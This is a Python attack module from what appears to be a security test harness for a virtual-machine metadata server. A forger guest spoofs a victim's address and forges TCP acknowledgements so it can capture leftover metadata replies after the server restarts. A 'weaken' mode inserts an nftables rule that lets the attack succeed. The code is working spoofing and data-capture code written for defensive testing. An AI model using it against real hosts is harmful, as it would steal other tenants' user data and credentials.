"""A guest gets the rest of a reply that a server was about to send to its neighbour when it ended.

What a server has written and nobody has read yet stays with the kernel, which goes on sending when the server is gone. The next server's
sockets may have the same port numbers for other taps. Gained: as much of a victim's user data as fits a socket. In the way: a port number
does not come to mean another tap while a connection of the one before it may be left.
"""

import contextlib
import signal
import socket
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import claims
from field import METADATA, Field
from host import Host

SIZE = 400_000
KEPT = 24


class Attack(attack.Attack):
    """Victim-6, whose tap has the number before the forger's, has much to read; it is unplugged while no server runs."""

    hosts = ("address", "redirect")
    victims = slice(0, -1)
    ends_connections = True
    # A client's kernel sends a SYN again after one, three and seven seconds.
    patience = 10
    # Its own default, and so a server that has nothing to send yet for connections of an attack before.
    options = ("--hold-timeout", "5s")
    rate = 100
    seconds = 8
    proofs = (("address", 4), ("address", 6))
    is_weak = False

    def prepare(self, host: Host) -> None:
        """Gives the victim much to read."""
        victim = host.victims[-1]
        body = victim.body * (SIZE // len(victim.body))
        host.redefine(victim, victim.xml(body=body), body)

    def attack(self, field: Field) -> None:
        """Says that the victim's address is here, and acknowledges in its name what comes."""
        card, victim, own = wire.Wire(), field.victims[-1], field.own(field.victims[-1])
        claim, texts, packets = claims.of_victims(field, [victim]), 0, 0
        field.ready()
        while field.goes_on():
            card.send(*claim)
            for segment in card.segments(0.05):
                if segment.destination != own:
                    continue
                packets += 1
                texts += len(segment.data)
                if segment.flags & wire.RST:
                    continue
                pair, ports = (own, segment.source), (segment.ports[1], 80)
                # Who probes a window that is closed repeats the number before the next.
                for more in (0, 0 if segment.data else 1):
                    card.send(wire.packet(field.bridge, field.me.link, pair, wire.tcp(
                        *pair, ports, wire.ACK, segment.acknowledged, segment.sequence + len(segment.data) + more)))
        field.report |= {"seen": packets, "read": texts}

    def during(self, host: Host, outcome: Outcome) -> None:
        """Lets the victim ask much, ends the server, and starts another when the victim is gone."""
        victim, kept = host.victims[-1], []
        with space.inside(victim.name):
            for _ in range(KEPT):
                one = socket.socket(socket.AF_INET if outcome.family == 4 else socket.AF_INET6)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                one.settimeout(3)
                with contextlib.suppress(OSError):
                    one.connect((METADATA[outcome.family], 80))
                    one.sendall(b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
                    kept.append(one)
        outcome.host_report["asked"] = len(kept)
        time.sleep(0.5)
        host.server.end(signal.SIGKILL)
        victim.unplug()
        host.server.start(*host.server.options)
        if self.is_weak:
            # What port numbers meant is forgotten.
            rules.add(f"insert rule netdev {rules.TABLE} from_host_{rules.index('br0')} tcp sport >= 1024 "
                      f"{'ip' if outcome.family == 4 else 'ip6'} daddr {victim.address(outcome.family)} tcp sport set 80 "
                      f"fwd to \"{host.forger.tap}\"")
        # The kernel tries again after ever longer pauses.
        time.sleep(3.5)
        for one in kept:
            one.close()
        victim.plug()

    def gained(self, outcome: Outcome) -> str | None:
        """Packets to the victim."""
        if outcome.host_report["asked"] < KEPT // 2:
            raise space.Failure(f"only {outcome.host_report['asked']} requests were made: the attack does not work")
        found = outcome.forger
        return f"the forger got {found['seen']} packets for the victim, with {found['read']} bytes" if found["seen"] else None

    def weaken(self, host: Host) -> None:
        """Done when the next server runs."""
        self.is_weak = True

    def restore(self, host: Host) -> None:
        """The victim's own XML."""
        host.hypervisor.stop(host.victims[-1].name)
        host.hypervisor.start(host.victims[-1].xml())
